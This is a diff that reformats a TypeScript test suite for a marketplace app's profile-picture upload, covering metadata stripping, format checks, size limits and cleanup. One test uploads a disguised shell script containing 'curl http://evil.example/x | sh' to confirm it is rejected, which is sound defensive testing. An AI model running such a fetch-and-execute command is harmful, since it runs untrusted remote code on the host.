@@ -3,7 +3,17 @@ import sharp from 'sharp';
 import { describe, expect, it } from 'vitest';
 import type { Me } from '@marketplace/shared/schemas/accounts';
 import { registerUser } from '../../../test/helper';
-import { completeProfile, type Failure, GTBANK, mediaFiles, photoWithGps, saveProfile, storedUser, type Success, testApp } from '../../../test/profiles';
+import {
+  completeProfile,
+  type Failure,
+  GTBANK,
+  mediaFiles,
+  photoWithGps,
+  saveProfile,
+  storedUser,
+  type Success,
+  testApp,
+} from '../../../test/profiles';
 
 // The profile picture: re-encoded, stripped of metadata, size and type checked by content.
 
@@ -15,7 +25,11 @@ describe('the profile picture', () => {
     expect(original.exif?.includes('Camon')).toBe(true);
 
     const before = mediaFiles();
-    const response = await saveProfile(user.token, completeProfile, { bytes: photo, filename: 'me.jpg', type: 'image/jpeg' });
+    const response = await saveProfile(user.token, completeProfile, {
+      bytes: photo,
+      filename: 'me.jpg',
+      type: 'image/jpeg',
+    });
     expect(response.statusCode).toBe(200);
     const url = response.json<Success<Me>>().data.profilePicture;
     expect(url).toMatch(/^http:\/\/oja\.test\/media\/profile-pictures\/[0-9a-f-]{36}\.webp$/);
@@ -34,16 +48,27 @@ describe('the profile picture', () => {
     expect(served.statusCode).toBe(200);
     expect(served.headers['content-type']).toBe('image/webp');
     expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
-    for (const secret of ['Camon', 'Tecno', 'Lekki', 'GPS']) expect(served.rawPayload.includes(secret)).toBe(false);
+    for (const secret of ['Camon', 'Tecno', 'Lekki', 'GPS'])
+      expect(served.rawPayload.includes(secret)).toBe(false);
   });
 
   it('accepts a PNG and removes the picture it replaces', async () => {
     const user = await registerUser(testApp.app);
-    const png = await sharp({ create: { width: 300, height: 200, channels: 4, background: '#27ae60ff' } }).png().toBuffer();
+    const png = await sharp({ create: { width: 300, height: 200, channels: 4, background: '#27ae60ff' } })
+      .png()
+      .toBuffer();
     const before = mediaFiles();
-    const first = await saveProfile(user.token, completeProfile, { bytes: png, filename: 'first.png', type: 'image/png' });
+    const first = await saveProfile(user.token, completeProfile, {
+      bytes: png,
+      filename: 'first.png',
+      type: 'image/png',
+    });
     expect(first.statusCode).toBe(200);
-    const second = await saveProfile(user.token, completeProfile, { bytes: png, filename: 'second.png', type: 'image/png' });
+    const second = await saveProfile(user.token, completeProfile, {
+      bytes: png,
+      filename: 'second.png',
+      type: 'image/png',
+    });
     expect(second.statusCode).toBe(200);
     const secondUrl = second.json<Success<Me>>().data.profilePicture ?? '';
     expect(mediaFiles().filter((file) => !before.includes(file))).toEqual([
@@ -55,8 +80,14 @@ describe('the profile picture', () => {
 
   it('keeps the current picture when the form has no new one', async () => {
     const user = await registerUser(testApp.app);
-    const png = await sharp({ create: { width: 50, height: 50, channels: 3, background: '#000' } }).png().toBuffer();
-    const first = await saveProfile(user.token, completeProfile, { bytes: png, filename: 'a.png', type: 'image/png' });
+    const png = await sharp({ create: { width: 50, height: 50, channels: 3, background: '#000' } })
+      .png()
+      .toBuffer();
+    const first = await saveProfile(user.token, completeProfile, {
+      bytes: png,
+      filename: 'a.png',
+      type: 'image/png',
+    });
     const again = await saveProfile(user.token, { ...completeProfile, bio: 'Only the bio changes' });
     expect(again.json<Success<Me>>().data.profilePicture).toBe(first.json<Success<Me>>().data.profilePicture);
   });
@@ -65,11 +96,15 @@ describe('the profile picture', () => {
     const user = await registerUser(testApp.app);
     const before = mediaFiles();
     const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
-    const response = await saveProfile(user.token, { ...completeProfile, bio: 'Should not be saved' }, {
-      bytes: script,
-      filename: 'holiday.jpg',
-      type: 'image/jpeg',
-    });
+    const response = await saveProfile(
+      user.token,
+      { ...completeProfile, bio: 'Should not be saved' },
+      {
+        bytes: script,
+        filename: 'holiday.jpg',
+        type: 'image/jpeg',
+      },
+    );
     expect(response.statusCode).toBe(400);
     expect(response.json<Failure>()).toMatchObject({
       message: 'The profile picture must be a JPEG, PNG or WebP image.',
@@ -81,8 +116,14 @@ describe('the profile picture', () => {
 
   it('refuses an image that is not one of JPEG, PNG or WebP (a GIF)', async () => {
     const user = await registerUser(testApp.app);
-    const gif = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#fff' } }).gif().toBuffer();
-    const response = await saveProfile(user.token, completeProfile, { bytes: gif, filename: 'a.png', type: 'image/png' });
+    const gif = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#fff' } })
+      .gif()
+      .toBuffer();
+    const response = await saveProfile(user.token, completeProfile, {
+      bytes: gif,
+      filename: 'a.png',
+      type: 'image/png',
+    });
     expect(response.statusCode).toBe(400);
     expect(response.json<Failure>().error.code).toBe('PROFILE_PICTURE_INVALID');
   });
@@ -91,9 +132,15 @@ describe('the profile picture', () => {
     const user = await registerUser(testApp.app);
     const before = mediaFiles();
     // A real JPEG followed by padding: 11MB in all.
-    const jpeg = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#f39c12' } }).jpeg().toBuffer();
+    const jpeg = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#f39c12' } })
+      .jpeg()
+      .toBuffer();
     const large = Buffer.concat([jpeg, Buffer.alloc(11 * 1024 * 1024 - jpeg.length)]);
-    const response = await saveProfile(user.token, completeProfile, { bytes: large, filename: 'big.jpg', type: 'image/jpeg' });
+    const response = await saveProfile(user.token, completeProfile, {
+      bytes: large,
+      filename: 'big.jpg',
+      type: 'image/jpeg',
+    });
     expect(response.statusCode).toBe(413);
     expect(response.json<Failure>()).toMatchObject({
       message: 'The profile picture should not exceed 10MB.',
@@ -107,13 +154,21 @@ describe('the profile picture', () => {
     const user = await registerUser(testApp.app);
     const before = mediaFiles();
     const photo = await photoWithGps();
-    const invalid = await saveProfile(user.token, { ...completeProfile, city: '' }, { bytes: photo, filename: 'me.jpg', type: 'image/jpeg' });
+    const invalid = await saveProfile(
+      user.token,
+      { ...completeProfile, city: '' },
+      { bytes: photo, filename: 'me.jpg', type: 'image/jpeg' },
+    );
     expect(invalid.statusCode).toBe(400);
-    const unverified = await saveProfile(user.token, { ...completeProfile, ...GTBANK, accountName: 'X' }, {
-      bytes: photo,
-      filename: 'me.jpg',
-      type: 'image/jpeg',
-    });
+    const unverified = await saveProfile(
+      user.token,
+      { ...completeProfile, ...GTBANK, accountName: 'X' },
+      {
+        bytes: photo,
+        filename: 'me.jpg',
+        type: 'image/jpeg',
+      },
+    );
     expect(unverified.statusCode).toBe(422);
     expect(mediaFiles()).toEqual(before);
   });
